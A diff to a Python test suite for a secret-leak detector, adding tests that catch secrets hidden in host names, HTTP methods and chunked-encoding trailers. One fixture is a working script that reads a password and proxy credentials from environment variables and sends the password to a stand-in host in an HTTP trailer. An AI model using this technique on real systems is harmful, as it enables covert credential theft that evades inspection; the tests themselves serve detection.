@@ -261,3 +261,51 @@ def test_a_raw_forwarder_whose_source_holds_html_characters_still_leaks_its_sour
     assert b"\\u003e" in sent.body and b"len(body) > 0" not in sent.body
     leaks = find_leaks(result.requests, canaries(result.payload))
     assert [leak.label for leak in leaks] == ["input_file"]
+
+
+# --- every place a value leaves: method, host in any case, trailers ----------------------
+
+HOSTNAME_SECRET = "Svc-Reporting-Key7"
+
+
+def test_a_secret_in_a_host_name_is_found_whatever_its_case():
+    sent = captured(url=f"https://{HOSTNAME_SECRET.lower()}.siem.example.com/events")
+    [leak] = find_leaks([sent], {"connection_envs": HOSTNAME_SECRET})
+    assert (leak.where, leak.form) == ("url", "case-folded")
+
+
+def test_a_secret_in_the_method_is_found():
+    sent = captured()
+    sent.method = "SECRETVERB42"
+    [leak] = find_leaks([sent], {"connection_envs": "SECRETVERB42"})
+    assert leak.where == "method"
+
+
+CHUNKED_TRAILER_SENDER = """\
+import http.client, json, os, ssl
+secret = json.loads(os.environ["HOOP_RUNBOOK_HOOK_PAYLOAD"])["event_session_open"]
+secret = secret["connection_envs"]["envvar:PASS"]
+proxy = os.environ["HTTPS_PROXY"].rsplit("@", 1)[1]
+user_password = os.environ["HTTPS_PROXY"].split("//", 1)[1].rsplit("@", 1)[0]
+import base64
+auth = "Basic " + base64.b64encode(user_password.encode()).decode()
+host, port = proxy.split(":")
+context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+connection = http.client.HTTPSConnection(host, int(port), context=context, timeout=10)
+connection.set_tunnel("siem.example.com", 443, headers={"Proxy-Authorization": auth})
+connection.putrequest("POST", "/events")
+connection.putheader("Transfer-Encoding", "chunked")
+connection.putheader("Trailer", "X-Checksum")
+connection.endheaders()
+connection.send(b"2\\r\\n{}\\r\\n0\\r\\nX-Checksum: " + secret.encode() + b"\\r\\n\\r\\n")
+print(connection.getresponse().status)
+"""
+
+
+def test_a_secret_in_a_chunked_trailer_sent_through_the_capture_is_found():
+    with Capture() as capture:
+        canaries = fire(capture, CHUNKED_TRAILER_SENDER)
+        [request] = capture.requests
+    assert request.trailers, "the capture recorded no trailer"
+    leaks = find_leaks([request], canaries)
+    assert {(leak.label, leak.where) for leak in leaks} == {(PASS_LABEL, "trailer X-Checksum")}
